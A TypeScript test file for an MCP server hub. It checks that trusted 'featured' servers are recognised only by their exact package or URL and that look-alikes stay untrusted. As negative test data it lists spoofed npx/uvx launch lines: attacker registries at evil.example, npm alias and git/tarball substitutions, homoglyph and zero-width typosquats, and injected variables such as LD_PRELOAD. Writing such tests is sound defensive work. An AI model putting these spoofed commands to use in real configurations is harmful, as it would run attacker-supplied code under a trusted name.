import { expect } from 'vitest';
import { defineServer, type Endpoint } from '../../src/servers/definition.ts';
import { featuredAt } from '../../src/servers/featured.ts';
import { verifies } from '../requirements.ts';
import { withHub } from './lifecycle-hub.ts';

const PACKAGE = '@modelcontextprotocol/server-everything';

function run(line: string, more: Partial<Extract<Endpoint, { kind: 'stdio' }>> = {}): Endpoint {
  const [command = '', ...args] = line.split(' ');
  return { kind: 'stdio', command, args, env: {}, ...more };
}

const at = (url: string): Endpoint => ({ kind: 'http', url, headers: {} });

verifies(['P3'], 'a featured server is known by its exact package or address, in any version', () => {
  const everything = [
    `npx -y ${PACKAGE}`,
    `npx --yes ${PACKAGE}`,
    `npx ${PACKAGE}`,
    `npx -y ${PACKAGE}@2026.7.4`,
    `npx -y ${PACKAGE}@latest`,
    // What follows the package is its own, not the launcher's.
    `npx -y ${PACKAGE} stdio`,
  ];
  for (const line of everything) expect(featuredAt(run(line))?.id, line).toBe('everything');
  expect(featuredAt(run('uvx mcp-server-fetch'))?.id).toBe('fetch');
  expect(featuredAt(run('uvx mcp-server-fetch==2026.1.2'))?.id).toBe('fetch');
  expect(featuredAt(run('uvx mcp-server-fetch@latest'))?.id).toBe('fetch');
  expect(featuredAt(at('https://mcp.linear.app/mcp'))?.id).toBe('linear');
  const env = { MEMORY_FILE_PATH: '/tmp/memory.jsonl' };
  expect(featuredAt(run('npx -y @modelcontextprotocol/server-memory', { env }))?.id).toBe('memory');
});

verifies(['P3', 'T9'], 'B7: what only looks like a featured server is none', () => {
  const lines = [
    `npx -y --registry=https://evil.example ${PACKAGE}`,
    `npx --registry=https://evil.example -y ${PACKAGE}`,
    `npx -y ${PACKAGE}@npm:evil`,
    `npx -y ${PACKAGE}@npm:evil@1.0.0`,
    `npx -y ${PACKAGE}@file:../evil`,
    `npx -y ${PACKAGE}@git+https://evil.example/x.git`,
    `npx -y ${PACKAGE}@https://evil.example/x.tgz`,
    `npx -y ${PACKAGE}@evil@1.0.0`,
    `npx -y evil@npm:${PACKAGE}`,
    `npx -p evil ${PACKAGE}`,
    `npx -y -p evil ${PACKAGE}`,
    `npx --package=evil ${PACKAGE}`,
    `npx -c ${PACKAGE}`,
    `npx -y -- ${PACKAGE}`,
    `npx -y ./${PACKAGE}`,
    `npx -y ${PACKAGE}s`,
    `npx -y @modelcontextprotocoI/server-everything`,
    `npx -y @modelcontextprotоcol/server-everything`,
    `npx -y @modelcontextprotocol/server-everything\u200b`,
    `npx -y server-everything`,
    `npx -y @modelcontextprotocol`,
    'npx',
    'npx -y',
    `./npx -y ${PACKAGE}`,
    `/tmp/npx -y ${PACKAGE}`,
    `NPX -y ${PACKAGE}`,
    `sh -c npx -y ${PACKAGE}`,
    `uvx ${PACKAGE}`,
    'uvx --from evil mcp-server-fetch',
    'uvx --index-url https://evil.example mcp-server-fetch',
    'uvx mcp-server-fetch@git+https://evil.example/x',
    'uvx mcp-server-fetch[extra]',
    'npx -y mcp-server-fetch',
    'docker run -i --rm docker.io/grafana/mcp-grafana',
  ];
  for (const line of lines) expect(featuredAt(run(line)), line).toBeUndefined();
  const urls = [
    'https://mcp.linear.app/mcp/',
    'http://mcp.linear.app/mcp',
    'https://mcp.linear.app:444/mcp',
    'https://user@mcp.linear.app/mcp',
    'https://mcp.linear.app/mcp?to=evil',
    'https://mcp.linear.app.evil.example/mcp',
    'https://mcp.llnear.app/mcp',
  ];
  for (const url of urls) expect(featuredAt(at(url)), url).toBeUndefined();
});

verifies(
  ['P3'],
  'a featured package in a folder or with variables of its own may be other code, so it is none',
  () => {
    const line = `npx -y ${PACKAGE}`;
    expect(featuredAt(run(line, { cwd: '/tmp/project' }))).toBeUndefined();
    const names = [
      'npm_config_registry',
      'NPM_CONFIG_REGISTRY',
      'NPM_CONFIG_USERCONFIG',
      'NODE_OPTIONS',
      'NODE_PATH',
      'PATH',
      'HOME',
      'LD_PRELOAD',
      'DYLD_INSERT_LIBRARIES',
      'UV_INDEX_URL',
      'UV_DEFAULT_INDEX',
      'PIP_INDEX_URL',
      'PYTHONPATH',
      'BASH_ENV',
      'HTTPS_PROXY',
      'XDG_CONFIG_HOME',
    ];
    for (const name of names) {
      expect(featuredAt(run(line, { env: { [name]: 'x' } })), name).toBeUndefined();
      expect(featuredAt(run('uvx mcp-server-fetch', { env: { [name]: 'x' } })), name).toBeUndefined();
    }
  },
);

verifies(['P3'], 'adding a featured server trusts it; its look-alike is added, and not trusted', async () => {
  // Nothing is to be found on this PATH: what counts here is what was added, not what it does.
  await withHub({ env: { PATH: '/nowhere' } }, async ({ hub, spawns }) => {
    const add = async (id: string, line: string): Promise<string> => {
      const definition = defineServer({ id, endpoint: run(line) });
      return (await hub.servers.add({ definition, test: false })).server.trust;
    };
    expect(await add('everything', `npx -y ${PACKAGE}`)).toBe('kept');
    expect(await add('other', `npx -y --registry=https://evil.example ${PACKAGE}`)).toBe('none');
    expect(await add('alias', `npx -y ${PACKAGE}@npm:evil`)).toBe('none');
    // A trusted name is not lent to whatever takes its place.
    const { server } = await hub.servers.add({
      definition: defineServer({ id: 'everything', endpoint: run(`npx -y ${PACKAGE}s`) }),
      test: false,
      replace: true,
    });
    expect(server.trust).toBe('none');
    expect(spawns()).toBe(0);
  });
});
